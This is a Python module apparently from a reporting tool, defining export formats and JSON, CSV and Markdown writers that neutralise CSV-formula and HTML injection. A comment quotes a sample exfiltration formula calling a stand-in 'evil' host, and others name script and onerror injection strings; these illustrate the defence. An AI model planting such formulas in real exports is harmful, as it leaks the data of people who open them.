"""What every renderer shares: the format names, and CSV / JSON writing."""

from __future__ import annotations

import contextlib
import csv
import html
import io
import json
import re
from contextvars import ContextVar
from enum import StrEnum
from typing import Any, Iterable, Iterator, Sequence

from pydantic import BaseModel


class Format(StrEnum):
    table = "table"
    json = "json"
    jsonl = "jsonl"
    csv = "csv"
    markdown = "markdown"
    html = "html"
    junit = "junit"
    github = "github"
    xlsx = "xlsx"


def to_json(model: BaseModel | Any, *, exclude: set[str] | dict[str, Any] | None = None) -> str:
    """Deterministic JSON: model field order, two-space indent, UTF-8 text kept readable."""
    if isinstance(model, BaseModel):
        # pydantic's serialiser writes indented JSON many times faster than json.dumps(indent=).
        return model.model_dump_json(indent=2, exclude=exclude) + "\n"
    return json.dumps(model, ensure_ascii=False, indent=2) + "\n"


def to_jsonl(models: Iterable[BaseModel]) -> str:
    return "".join(json.dumps(m.model_dump(mode="json"), ensure_ascii=False) + "\n" for m in models)


# A spreadsheet runs a cell that begins with one of these as a formula: =HYPERLINK("http://evil/?"&A1)
# in a service name would send the analyst's data away when the export is opened in Excel.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?%?")
_RAW_CSV: ContextVar[bool] = ContextVar("register_audit_raw_csv", default=False)


@contextlib.contextmanager
def raw_csv(raw: bool = True) -> Iterator[None]:
    """Inside the block, CSV cells are written exactly as they are (no formula neutralising)."""
    token = _RAW_CSV.set(raw)
    try:
        yield
    finally:
        _RAW_CSV.reset(token)


def set_raw_csv(raw: bool) -> None:
    """Write CSV cells as they are (True) or neutralised (False, the default) from now on in this context."""
    _RAW_CSV.set(raw)


def csv_cell(value: Any) -> Any:
    """VALUE safe to open in a spreadsheet: text that begins like a formula (= + - @, tab, CR) gets
    a leading apostrophe, as OWASP's CSV-injection guidance says; numbers ("-5", "+7.5") and
    other values are untouched."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def to_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """CSV with a header, \\r\\n line ends as RFC 4180 and Excel expect; cells that a spreadsheet
    would run as formulas are neutralised (csv_cell) unless raw CSV was asked for."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    if _RAW_CSV.get():
        writer.writerow(header)
        writer.writerows(rows)
    else:
        writer.writerow([csv_cell(c) for c in header])
        writer.writerows(_neutralised(rows))
    return buffer.getvalue()


def _neutralised(rows: Iterable[Sequence[Any]]) -> Iterator[Sequence[Any]]:
    for row in rows:
        # Most rows hold no such cell: test first, rebuild only the few that do.
        if any(isinstance(c, str) and c.startswith(FORMULA_START) for c in row):
            yield [csv_cell(c) for c in row]
        else:
            yield row


def md_escape(text: str) -> str:
    """Text safe inside a Markdown table cell: pipes and backslashes escaped, one line, and HTML
    escaped (`<script>` or `<img onerror=...>` in a name stays text on any page that renders it)."""
    one = text.replace("\r\n", " ").replace("\r", " ").replace("\n", " ")  # a lone CR ends a Markdown line too
    return html.escape(one.replace("\\", "\\\\").replace("|", "\\|"), quote=False)


def provenance_line(provenance: Any) -> str:
    """One sentence naming the tool's version and every rule file and catalogue a report used."""
    rules = ", ".join(f"{r.id} v{r.version}" for r in provenance.rules) or "none"
    catalogue = f"; catalogue {provenance.catalogue.id} v{provenance.catalogue.version}" if provenance.catalogue else ""
    return f"Made with {provenance.tool} {provenance.version}; rules {rules}{catalogue}."
